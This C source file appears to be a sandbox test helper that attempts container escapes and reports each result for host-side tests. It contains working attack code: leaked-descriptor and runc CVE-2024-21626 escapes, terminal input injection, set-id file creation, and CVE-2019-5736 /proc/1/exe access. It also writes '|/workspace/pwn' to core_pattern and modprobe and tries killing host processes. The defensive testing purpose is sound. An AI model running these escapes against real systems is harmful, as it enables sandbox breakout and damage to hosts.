/*
 * try-escape.c - attacks on a sandbox that need more than a shell: leaked
 * descriptors, the host's listeners, host processes, terminal injection,
 * processes that try to outlive the sandbox.  Each prints what it got as
 * "KEY=VALUE" lines (an errno number, 0 for success, or data); the tests
 * decide from the host's side whether the attack worked.
 *
 * Usage: try-escape COMMAND ARG...
 *   fds                     list the open descriptors above 2
 *   read-fd N               read fd N, directly and via /proc/self/fd/N
 *   write-fd N TEXT         write TEXT over fd N, both ways
 *   dir-fd N NAME           open NAME below directory fd N, every way
 *   tcp ADDR PORT           connect and send (IPv4 or IPv6 ADDR)
 *   udp ADDR PORT           send a datagram
 *   unix NAME               connect to abstract stream socket @NAME, send
 *   unix-dgram NAME         send to abstract datagram socket @NAME
 *   ifaces                  list interfaces and addresses
 *   procs MARKER PID        look for and signal host process PID
 *   daemon MARKER [exit]    leave a double-forked setsid() grandchild that
 *                           ignores signals; then wait forever, or exit
 *   sleep MARKER            wait forever (a marker process)
 *   tiocsti FD TEXT [high]  take FD as controlling tty, push TEXT into it
 *   tiocsetd FD [high]      set FD's line discipline to N_NULL
 *   setid DIR [NAME]        make set-id files in DIR by every call that
 *                           takes a mode (or the one named)
 *   runtime                 reach the sandbox's init (the supervisor's
 *                           binary, CVE-2019-5736) and /proc's dangerous
 *                           files
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <limits.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAYLOAD "sbx-escape-payload"

static int fd_arg(const char *s)
{
	return (int)strtol(s, NULL, 10);
}

/* Print what fd holds from offset 0 (or the errno). */
static void show_fd(const char *key, int fd, int err)
{
	char buf[4096];
	ssize_t n;

	if (fd < 0) {
		printf("%s=%d\n", key, err);
		return;
	}
	n = pread(fd, buf, sizeof(buf) - 1, 0);
	if (n < 0)
		n = read(fd, buf, sizeof(buf) - 1);
	if (n < 0) {
		printf("%s=%d\n", key, errno);
		return;
	}
	buf[n] = '\0';
	printf("%s=0 data=[%s]\n", key, buf);
}

static int cmd_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *de;
	int n = 0;

	if (!d) {
		printf("fds=error %d\n", errno);
		return 1;
	}
	while ((de = readdir(d))) {
		char path[300], target[PATH_MAX];
		int fd = atoi(de->d_name);
		ssize_t len;

		if (de->d_name[0] == '.' || fd <= 2 || fd == dirfd(d))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		len = readlink(path, target, sizeof(target) - 1);
		target[len > 0 ? len : 0] = '\0';
		printf("fd %d -> %s\n", fd, target);
		n++;
	}
	closedir(d);
	printf("fds=%d\n", n);
	return 0;
}

static int cmd_read_fd(int fd)
{
	char path[64];
	int pfd;

	show_fd("direct", fd, EBADF);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	pfd = open(path, O_RDONLY);
	show_fd("proc", pfd, errno);
	return 0;
}

static int cmd_write_fd(int fd, const char *text)
{
	char path[64];
	ssize_t n;
	int pfd;

	n = pwrite(fd, text, strlen(text), 0);
	if (n < 0)
		n = write(fd, text, strlen(text));
	printf("direct=%d\n", n < 0 ? errno : 0);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	pfd = open(path, O_WRONLY);
	if (pfd >= 0) {
		n = write(pfd, text, strlen(text));
		printf("proc=%d\n", n < 0 ? errno : 0);
	} else {
		printf("proc=%d\n", errno);
	}
	return 0;
}

static void open_show(const char *key, int dfd, const char *name)
{
	int fd = openat(dfd, name, O_RDONLY);

	show_fd(key, fd, errno);
	if (fd >= 0)
		close(fd);
}

/* runc CVE-2024-21626: a directory fd of the host leads back out. */
static int cmd_dir_fd(int fd, const char *name)
{
	char path[PATH_MAX];
	int cfd;

	open_show("openat", fd, name);
	if (fchdir(fd) == 0)
		open_show("fchdir", AT_FDCWD, name);
	else
		printf("fchdir=%d\n", errno);
	snprintf(path, sizeof(path), "/proc/self/fd/%d/%s", fd, name);
	open_show("proc-path", AT_FDCWD, path);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (chdir(path) == 0)
		open_show("proc-chdir", AT_FDCWD, name);
	else
		printf("proc-chdir=%d\n", errno);
	cfd = openat(fd, "sbx-escape-created", O_CREAT | O_WRONLY, 0644);
	printf("create=%d\n", cfd < 0 ? errno : 0);
	return 0;
}

static int make_addr(const char *addr, const char *port,
		     struct sockaddr_storage *ss, socklen_t *len)
{
	struct sockaddr_in *in4 = (struct sockaddr_in *)ss;
	struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)ss;

	memset(ss, 0, sizeof(*ss));
	if (inet_pton(AF_INET, addr, &in4->sin_addr) == 1) {
		in4->sin_family = AF_INET;
		in4->sin_port = htons((unsigned short)atoi(port));
		*len = sizeof(*in4);
		return AF_INET;
	}
	if (inet_pton(AF_INET6, addr, &in6->sin6_addr) == 1) {
		in6->sin6_family = AF_INET6;
		in6->sin6_port = htons((unsigned short)atoi(port));
		*len = sizeof(*in6);
		return AF_INET6;
	}
	return -1;
}

static int cmd_inet(int type, const char *addr, const char *port)
{
	struct sockaddr_storage ss;
	socklen_t len;
	int fam = make_addr(addr, port, &ss, &len), s;
	ssize_t n;

	if (fam < 0) {
		printf("connect=bad-address\n");
		return 2;
	}
	s = socket(fam, type | SOCK_CLOEXEC, 0);
	if (s < 0) {
		printf("socket=%d\n", errno);
		return 0;
	}
	if (connect(s, (struct sockaddr *)&ss, len) < 0) {
		printf("connect=%d\n", errno);
		return 0;
	}
	printf("connect=0\n");
	n = send(s, PAYLOAD, sizeof(PAYLOAD) - 1, 0);
	printf("send=%d\n", n < 0 ? errno : 0);
	close(s);
	return 0;
}

static int cmd_unix(int type, const char *name)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	size_t nl = strlen(name);
	int s = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
	ssize_t n;

	if (s < 0 || nl + 1 > sizeof(sun.sun_path)) {
		printf("socket=%d\n", errno);
		return 0;
	}
	memcpy(sun.sun_path + 1, name, nl); /* abstract: leading NUL */
	if (connect(s, (struct sockaddr *)&sun,
		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 +
				nl)) < 0) {
		printf("connect=%d\n", errno);
		return 0;
	}
	printf("connect=0\n");
	n = send(s, PAYLOAD, sizeof(PAYLOAD) - 1, 0);
	printf("send=%d\n", n < 0 ? errno : 0);
	return 0;
}

static int cmd_ifaces(void)
{
	struct ifaddrs *ifa, *i;

	if (getifaddrs(&ifa) < 0) {
		printf("getifaddrs=%d\n", errno);
		return 1;
	}
	for (i = ifa; i; i = i->ifa_next) {
		char a[INET6_ADDRSTRLEN] = "", m[INET6_ADDRSTRLEN] = "";
		int fam = i->ifa_addr ? i->ifa_addr->sa_family : -1;
		const void *p = NULL, *q = NULL;

		if (fam == AF_INET) {
			p = &((struct sockaddr_in *)i->ifa_addr)->sin_addr;
			q = &((struct sockaddr_in *)i->ifa_netmask)->sin_addr;
		} else if (fam == AF_INET6) {
			p = &((struct sockaddr_in6 *)i->ifa_addr)->sin6_addr;
			q = &((struct sockaddr_in6 *)i->ifa_netmask)
				     ->sin6_addr;
		}
		if (p) {
			inet_ntop(fam, p, a, sizeof(a));
			inet_ntop(fam, q, m, sizeof(m));
		}
		printf("iface %s %s %s/%s%s\n", i->ifa_name,
		       fam == AF_INET	  ? "inet"
		       : fam == AF_INET6 ? "inet6"
					 : "link",
		       a, m, (i->ifa_flags & IFF_UP) ? " up" : "");
	}
	freeifaddrs(ifa);
	return 0;
}

/* Processes whose command line holds marker, seen through /proc. */
static int count_marked(const char *marker)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	int n = 0;

	if (!d)
		return -1;
	while ((de = readdir(d))) {
		char path[300], buf[4096];
		ssize_t len, i;
		int fd;

		if (de->d_name[0] < '0' || de->d_name[0] > '9' ||
		    atoi(de->d_name) == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%s/cmdline", de->d_name);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		len = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		for (i = 0; i < len; i++)
			if (buf[i] == '\0')
				buf[i] = ' ';
		buf[len > 0 ? len : 0] = '\0';
		if (strstr(buf, marker))
			n++;
	}
	closedir(d);
	return n;
}

static int cmd_procs(const char *marker, pid_t pid)
{
	char path[64];
	struct stat st;
	int visible = count_marked(marker), r0, r9;

	snprintf(path, sizeof(path), "/proc/%d", (int)pid);
	printf("visible=%d\n", visible);
	printf("proc-entry=%d\n", stat(path, &st) == 0);
	r0 = kill(pid, 0) < 0 ? errno : 0;
	r9 = kill(pid, SIGKILL) < 0 ? errno : 0;
	printf("kill0=%d\nkill9=%d\n", r0, r9);
	/* kill(-1) only where nothing of the host shows: if the PID
	 * namespace were missing, it would hit every process of the
	 * caller's uid.  The test has failed on "visible" by then. */
	if (visible == 0 && r0 == ESRCH) {
		int r = kill(-1, SIGKILL) < 0 ? errno : 0;

		printf("killall=%d\n", r);
	} else {
		printf("killall=skipped\n");
	}
	return 0;
}

static void ignore_all_signals(void)
{
	int sig;

	for (sig = 1; sig < NSIG; sig++)
		signal(sig, SIG_IGN);
}

static int cmd_daemon(int exit_now)
{
	pid_t mid = fork(), gc;
	int nul;

	if (mid < 0) {
		printf("fork=%d\n", errno);
		return 1;
	}
	if (mid == 0) {
		setsid();
		gc = fork();
		if (gc != 0)
			_exit(gc < 0);
		ignore_all_signals();
		nul = open("/dev/null", O_RDWR);
		dup2(nul, 0);
		dup2(nul, 1);
		dup2(nul, 2);
		for (;;)
			pause();
	}
	waitpid(mid, NULL, 0);
	printf("daemon=0\n");
	fflush(stdout);
	if (exit_now)
		return 0;
	for (;;)
		pause();
}

/* CVE-2017-5226: a process that makes the terminal its controlling tty
 * may push input into it.  A sandbox's program is not a session leader,
 * so it can become one. */
static int cmd_tiocsti(int fd, const char *text, int high)
{
	unsigned long req = TIOCSTI | (high ? 1UL << 32 : 0);
	int err = 0;
	const char *p;

	printf("setsid=%d\n", setsid() < 0 ? errno : 0);
	printf("tiocsctty=%d\n", ioctl(fd, TIOCSCTTY, 0) < 0 ? errno : 0);
	fflush(stdout);
	for (p = text; *p && !err; p++)
		if (syscall(SYS_ioctl, fd, req, p) < 0)
			err = errno;
	printf("tiocsti=%d\n", err);
	return 0;
}

/* The line discipline of the caller's terminal: N_NULL (27) drops all
 * input and output, so the terminal is dead after the run. */
static int cmd_tiocsetd(int fd, int high)
{
	unsigned long req = TIOCSETD | (high ? 1UL << 32 : 0);
	int disc = 27;

	printf("tiocsetd=%d\n",
	       syscall(SYS_ioctl, fd, req, &disc) < 0 ? errno : 0);
	return 0;
}

/* ---- set-id files: every call that takes a mode ------------------- */

#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452 /* Linux 6.6, newer than some headers */
#endif
#ifndef SYS_openat2
#define SYS_openat2 437
#endif

static char setid_path[PATH_MAX];

static const char *in_dir(const char *dir, const char *name)
{
	snprintf(setid_path, sizeof(setid_path), "%s/%s", dir, name);
	return setid_path;
}

/* A file the program wrote, executable: what it would make set-id. */
static const char *written(const char *dir, const char *name)
{
	const char *p = in_dir(dir, name);
	int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);

	if (fd >= 0) {
		if (write(fd, "#!/bin/sh\n", 10) < 0)
			perror("write");
		close(fd);
	}
	return p;
}

/* A descriptor a call made: closed; -1 with errno when there is none. */
static long made(long fd)
{
	if (fd >= 0)
		close((int)fd);
	return fd < 0 ? -1 : 0;
}

/* One attack by name; prints NAME=errno (0: the call worked). */
static int setid_one(const char *dir, const char *name)
{
	struct {
		uint64_t flags, mode, resolve;
	} how = { O_WRONLY | O_CREAT | O_CLOEXEC, 04755, 0 };
	long r = -1;
	int fd;

	errno = 0;
	if (!strcmp(name, "chmod-u")) {
		r = syscall(SYS_chmod, written(dir, name), 04755);
	} else if (!strcmp(name, "chmod-g")) {
		r = syscall(SYS_chmod, written(dir, name), 02755);
	} else if (!strcmp(name, "chmod-high")) {
		/* the kernel keeps 16 bits of the mode */
		r = syscall(SYS_chmod, written(dir, name), (1L << 32) | 04755);
	} else if (!strcmp(name, "fchmod")) {
		fd = open(written(dir, name), O_RDONLY | O_CLOEXEC);
		r = syscall(SYS_fchmod, fd, 04755);
		close(fd);
	} else if (!strcmp(name, "fchmodat")) {
		r = syscall(SYS_fchmodat, AT_FDCWD, written(dir, name), 06755);
	} else if (!strcmp(name, "fchmodat2")) {
		r = syscall(SYS_fchmodat2, AT_FDCWD, written(dir, name), 04755,
			    0);
	} else if (!strcmp(name, "openat")) {
		r = made(syscall(SYS_openat, AT_FDCWD, in_dir(dir, name),
				 O_WRONLY | O_CREAT | O_CLOEXEC, 04755));
	} else if (!strcmp(name, "openat2")) {
		r = made(syscall(SYS_openat2, AT_FDCWD, in_dir(dir, name), &how,
				 sizeof(how)));
	} else if (!strcmp(name, "mknodat")) {
		r = syscall(SYS_mknodat, AT_FDCWD, in_dir(dir, name),
			    S_IFREG | 02755, 0);
	} else if (!strcmp(name, "tmpfile")) {
		/* an unnamed file given a name afterwards */
		char proc[64];

		fd = (int)syscall(SYS_openat, AT_FDCWD, dir,
				  O_TMPFILE | O_WRONLY | O_CLOEXEC, 04755);
		snprintf(proc, sizeof(proc), "/proc/self/fd/%d", fd);
		r = fd < 0 ? -1
			   : linkat(AT_FDCWD, proc, AT_FDCWD, in_dir(dir, name),
				    AT_SYMLINK_FOLLOW);
		if (fd >= 0)
			close(fd);
#ifdef SYS_open
	} else if (!strcmp(name, "open")) {
		r = made(syscall(SYS_open, in_dir(dir, name),
				 O_WRONLY | O_CREAT | O_CLOEXEC, 04755));
	} else if (!strcmp(name, "creat")) {
		r = made(syscall(SYS_creat, in_dir(dir, name), 04755));
	} else if (!strcmp(name, "mknod")) {
		r = syscall(SYS_mknod, in_dir(dir, name), S_IFREG | 04755, 0);
#endif
	} else if (!strcmp(name, "control")) {
		/* a mode without set-id bits: allowed */
		r = syscall(SYS_chmod, written(dir, name), 0700);
	} else {
		return -1;
	}
	printf("%s=%d\n", name, r < 0 ? errno : 0);
	return 0;
}

static const char *const setid_attacks[] = {
	"chmod-u", "chmod-g",	"chmod-high", "fchmod",	 "fchmodat",
	"fchmodat2", "openat",	"openat2",    "mknodat", "tmpfile",
	"open",	   "creat",	"mknod",      "control",
};

/* Every attack in DIR, or the one named. */
static int cmd_setid(const char *dir, const char *only)
{
	size_t i;
	int found = 0;

	umask(022);
	for (i = 0; i < sizeof(setid_attacks) / sizeof(setid_attacks[0]); i++)
		if (!only || !strcmp(only, setid_attacks[i]))
			found |= setid_one(dir, setid_attacks[i]) == 0;
	return found ? 0 : 2;
}

/* Print the errno of opening path with flags (0 when it opened). */
static int try_open(const char *key, const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC), err = fd < 0 ? errno : 0;

	printf("%s=%d\n", key, err);
	return fd;
}

/* The same, closing what opened. */
static void probe_open(const char *key, const char *path, int flags)
{
	int fd = try_open(key, path, flags);

	if (fd >= 0)
		close(fd);
}

/* Write text into path, as a shell's "echo > path" would. */
static void try_write(const char *key, const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC), err = 0;

	if (fd < 0)
		err = errno;
	else if (write(fd, text, strlen(text)) < 0)
		err = errno;
	printf("%s=%d\n", key, err);
	if (fd >= 0)
		close(fd);
}

/*
 * CVE-2019-5736: runc's binary was rewritten through /proc/PID/exe of a
 * runtime process the container could see.  Here PID 1 is the sandbox's
 * init, a fork of the supervisor: it must be unreachable.  Then the files
 * of /proc that reach the host kernel.
 */
static int cmd_runtime(void)
{
	char link[PATH_MAX], fdpath[64], byte = 0;
	struct iovec local = { &byte, 1 }, remote = { (void *)0x400000, 1 };
	ssize_t n;
	int fd;

	n = readlink("/proc/1/exe", link, sizeof(link) - 1);
	printf("exe-readlink=%d\n", n < 0 ? errno : 0);
	probe_open("exe-write", "/proc/1/exe", O_WRONLY);
	probe_open("exe-read", "/proc/1/exe", O_RDONLY);
	/* the two-step of the exploit: a path fd now, reopened to write */
	fd = try_open("exe-path", "/proc/1/exe", O_PATH);
	if (fd >= 0) {
		snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
		probe_open("exe-reopen", fdpath, O_WRONLY);
		close(fd);
	} else {
		printf("exe-reopen=%d\n", EBADF);
	}
	probe_open("mem", "/proc/1/mem", O_RDWR);
	probe_open("root", "/proc/1/root/", O_RDONLY | O_DIRECTORY);
	printf("ptrace=%d\n",
	       ptrace(PTRACE_ATTACH, 1, NULL, NULL) < 0 ? errno : 0);
	printf("vm-write=%d\n",
	       process_vm_writev(1, &local, 1, &remote, 1, 0) < 0 ? errno : 0);
	printf("kill1=%d\n", kill(1, SIGKILL) < 0 ? errno : 0);

	try_write("core-pattern", "/proc/sys/kernel/core_pattern",
		  "|/workspace/pwn");
	try_write("sysrq", "/proc/sysrq-trigger", "h");
	try_write("sysrq-enable", "/proc/sys/kernel/sysrq", "1");
	try_write("modprobe", "/proc/sys/kernel/modprobe", "/workspace/pwn");
	probe_open("kcore", "/proc/kcore", O_RDONLY);
	probe_open("kmem", "/dev/kmem", O_RDONLY);
	return 0;
}

static int usage(void)
{
	fprintf(stderr, "usage: try-escape COMMAND ARG... (see the source)\n");
	return 2;
}

int main(int argc, char **argv)
{
	const char *c = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(c, "fds"))
		return cmd_fds();
	if (!strcmp(c, "read-fd") && argc == 3)
		return cmd_read_fd(fd_arg(argv[2]));
	if (!strcmp(c, "write-fd") && argc == 4)
		return cmd_write_fd(fd_arg(argv[2]), argv[3]);
	if (!strcmp(c, "dir-fd") && argc == 4)
		return cmd_dir_fd(fd_arg(argv[2]), argv[3]);
	if (!strcmp(c, "tcp") && argc == 4)
		return cmd_inet(SOCK_STREAM, argv[2], argv[3]);
	if (!strcmp(c, "udp") && argc == 4)
		return cmd_inet(SOCK_DGRAM, argv[2], argv[3]);
	if (!strcmp(c, "unix") && argc == 3)
		return cmd_unix(SOCK_STREAM, argv[2]);
	if (!strcmp(c, "unix-dgram") && argc == 3)
		return cmd_unix(SOCK_DGRAM, argv[2]);
	if (!strcmp(c, "ifaces"))
		return cmd_ifaces();
	if (!strcmp(c, "procs") && argc == 4)
		return cmd_procs(argv[2], (pid_t)atoi(argv[3]));
	if (!strcmp(c, "daemon") && (argc == 3 || argc == 4))
		return cmd_daemon(argc == 4 && !strcmp(argv[3], "exit"));
	if (!strcmp(c, "sleep") && argc == 3) {
		for (;;)
			pause();
	}
	if (!strcmp(c, "tiocsti") && (argc == 4 || argc == 5))
		return cmd_tiocsti(fd_arg(argv[2]), argv[3],
				   argc == 5 && !strcmp(argv[4], "high"));
	if (!strcmp(c, "setid") && (argc == 3 || argc == 4))
		return cmd_setid(argv[2], argc == 4 ? argv[3] : NULL);
	if (!strcmp(c, "tiocsetd") && (argc == 3 || argc == 4))
		return cmd_tiocsetd(fd_arg(argv[2]),
				    argc == 4 && !strcmp(argv[3], "high"));
	if (!strcmp(c, "runtime") && argc == 2)
		return cmd_runtime();
	return usage();
}
